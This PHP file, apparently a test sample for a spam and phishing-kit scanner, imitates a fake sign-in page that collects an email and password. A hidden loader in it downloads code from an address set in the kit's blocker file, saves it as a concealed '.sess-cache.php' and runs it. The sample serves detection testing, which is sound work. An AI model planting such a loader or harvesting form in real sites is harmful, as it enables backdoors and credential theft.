<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A kit's sign-in page whose seller left a loader in it: the address lives in the kit's
// blocker file, the page downloads what it points at into a hidden PHP file and runs it.
session_start();
include 'blocker.php';
$upd = "$cdn_node";
$code = file_get_contents($upd);
file_put_contents(__DIR__ . '/.sess-cache.php', $code);
include __DIR__ . '/.sess-cache.php';
?>
<html><body><form action="next.php" method="post">
<input name="login_email"><input type="password" name="login_password">
</form></body></html>
